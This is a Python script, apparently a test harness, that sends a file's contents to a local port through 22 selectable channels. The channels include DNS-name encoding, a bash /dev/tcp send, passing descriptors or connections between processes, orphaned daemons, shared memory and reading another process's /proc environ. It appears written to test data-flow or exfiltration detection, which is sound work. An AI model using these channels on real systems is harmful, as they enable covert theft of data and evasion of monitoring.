"""Ways to bring the file F to the port P (or the unix socket U), one by one."""
import ctypes, mmap, multiprocessing, os, signal, socket, subprocess, sys, tempfile, threading

F, P, U = os.environ["F"], int(os.environ["P"]), os.environ["U"]
SINK = ("127.0.0.1", P)


def read():
    with open(F, "rb") as f:
        return f.read()


def send(data):
    with socket.create_connection(SINK, 10) as s:
        s.sendall(data)


def child(body):
    """A process of its own that does this; for `wait`."""
    pid = os.fork()
    if pid:
        return pid
    try:
        body()
    finally:
        os._exit(0)


def wait(*pids):
    for pid in pids:
        os.waitpid(pid, 0)


def plain():
    send(read())


def connected_first():
    s = socket.create_connection(SINK, 10)
    s.sendall(read())


def datagram():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(read(), SINK)


def dns_name():
    name = b"".join(bytes([len(p)]) + p for p in (read().hex()[:40].encode(), b"example", b"com")) + b"\0"
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, SINK)


def unix_socket():
    s = socket.socket(socket.AF_UNIX)
    s.connect(U)
    s.sendall(read())


def relay(server, address):
    server.listen()

    def serve():
        c, _ = server.accept()
        data = c.recv(4096)
        send(data)

    pid = child(serve)
    server.close()
    s = socket.socket(server.family)
    s.connect(address)
    s.sendall(read())
    s.shutdown(socket.SHUT_WR)
    wait(pid)


def relay_tcp():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    relay(server, server.getsockname())


def relay_unix():
    server = socket.socket(socket.AF_UNIX)
    server.bind("relay")
    relay(server, "relay")


def relay_abstract():
    server = socket.socket(socket.AF_UNIX)
    name = "\0relay-%d" % os.getpid()
    server.bind(name)
    relay(server, name)


def memfd():
    fd = os.memfd_create("m")
    wait(child(lambda: os.write(fd, read())))
    os.lseek(fd, 0, os.SEEK_SET)
    send(os.read(fd, 4096))


def descriptor_passed():
    a, b = socket.socketpair()

    def taker():
        a.close()
        _, fds, _, _ = socket.recv_fds(b, 16, 1)
        send(os.read(fds[0], 4096))

    pid = child(taker)
    b.close()
    with open(F, "rb") as f:
        socket.send_fds(a, [b"x"], [f.fileno()])
    a.close()
    wait(pid)


def descriptor_in_flight():
    """The end that reads lies in a socket, where it is in nobody's list, while the file is read."""
    a, b = socket.socketpair()
    r, w = os.pipe()
    socket.send_fds(a, [b"x"], [r])
    os.close(r)
    a.close()

    def reader():
        b.close()
        os.write(w, read())

    pid = child(reader)
    os.close(w)
    wait(pid)
    _, fds, _, _ = socket.recv_fds(b, 16, 1)
    b.close()
    data = os.read(fds[0], 4096)
    os.close(fds[0])
    send(data)


def connection_passed():
    """A connection that was made before is given to whoever has read."""
    a, b = socket.socketpair()

    def taker():
        a.close()
        data = read()
        _, fds, _, _ = socket.recv_fds(b, 16, 1)
        os.write(fds[0], data)

    s = socket.create_connection(SINK, 10)
    socket.send_fds(a, [b"x"], [s.fileno()])
    s.close()
    pid = child(taker)
    b.close()
    a.close()
    wait(pid)


def socketpair():
    a, b = socket.socketpair()

    def sender():
        b.close()
        a.sendall(read())

    pid = child(sender)
    a.close()
    send(b.recv(4096))
    wait(pid)


def queue():
    context = multiprocessing.get_context("fork")
    q = context.SimpleQueue()
    p = context.Process(target=lambda: q.put(read()))
    p.start()
    data = q.get()
    p.join()
    send(data)


def by_subprocess():
    with open(F, "rb") as f:
        out = subprocess.run(["cat"], stdin=f, stdout=subprocess.PIPE).stdout
    send(out)


def shared_memory():
    m = mmap.mmap(-1, 4096)

    def writer():
        data = read()
        m[: len(data)] = data

    wait(child(writer))
    send(m[:64])


def shared_file():
    """Both have it mapped before, and no descriptor."""
    with tempfile.TemporaryFile(dir=".") as f:
        f.truncate(4096)
        m = mmap.mmap(f.fileno(), 4096)

    def writer():
        data = read()
        m[: len(data)] = data

    wait(child(writer))
    send(m[:64])


def environment_of_other():
    r, w = os.pipe()

    def other():
        os.close(r)
        os.environ["DATA"] = read().decode()
        os.set_inheritable(w, True)
        os.execv("/bin/sh", ["sh", "-c", "echo x; read l", "sh"]) if os.dup2(w, 1) else None

    i, o = os.pipe()

    def started():
        os.dup2(i, 0)
        other()

    pid = child(started)
    os.close(w)
    os.read(r, 1)
    with open("/proc/%d/environ" % pid, "rb") as f:
        data = f.read()
    os.close(r)
    os.write(o, b"\n")
    wait(pid)
    send(data[data.index(b"DATA="):][:60])


def pipe_between_siblings():
    r, w = os.pipe()

    def reader():
        os.close(w)
        send(os.read(r, 4096))

    def writer():
        os.close(r)
        os.write(w, read())

    one = child(reader)
    two = child(writer)
    os.close(r)
    os.close(w)
    wait(one, two)


def unshared_thread():
    """A thread with descriptors of its own is connected before another reads."""
    connected, data = threading.Event(), []
    has_data = threading.Event()

    def talker():
        ctypes.CDLL(None).unshare(0x400)  # CLONE_FILES
        s = socket.create_connection(SINK, 10)
        connected.set()
        has_data.wait()
        for d in data:
            s.sendall(d)
        s.close()

    t = threading.Thread(target=talker)
    t.start()
    connected.wait()
    try:
        data.append(read())
    finally:
        has_data.set()
        t.join()


def exec_from_thread():
    """What takes the place of a process is started by its second thread, and has what that one read in its environment."""
    script = 'printf %s "$DATA" > /dev/tcp/127.0.0.1/' + str(P)
    threading.Thread(target=lambda: os.execvpe("bash", ["bash", "-c", script], dict(os.environ, DATA=read().decode()))).start()
    signal.pause()


def orphan():
    """A process whose parent has ended holds a connection from before and the end of a pipe."""
    r, w = os.pipe()
    ready, done = os.pipe(), os.pipe()

    def daemon():
        os.close(w)
        s = socket.create_connection(SINK, 10)
        os.write(ready[1], b"x")
        data = os.read(r, 4096)
        if data:
            s.sendall(data)

    def parent():
        os.setsid()
        child(daemon)

    wait(child(parent))
    os.close(r)
    os.close(done[1])
    os.read(ready[0], 1)
    try:
        os.write(w, read())
    finally:
        os.close(w)
        os.read(done[0], 1)  # until it has ended


WAYS = {
    "socket": plain, "connected-first": connected_first, "datagram": datagram, "dns-name": dns_name, "unix-socket": unix_socket,
    "relay-tcp": relay_tcp, "relay-unix": relay_unix, "relay-abstract": relay_abstract, "memfd": memfd,
    "descriptor-passed": descriptor_passed, "descriptor-in-flight": descriptor_in_flight, "connection-passed": connection_passed,
    "socketpair": socketpair, "queue": queue, "subprocess": by_subprocess, "shared-memory": shared_memory, "shared-file": shared_file,
    "environment-of-other": environment_of_other, "pipe-between-siblings": pipe_between_siblings,
    "unshared-thread": unshared_thread, "exec-from-thread": exec_from_thread, "orphan": orphan,
}
WAYS[sys.argv[1]]()
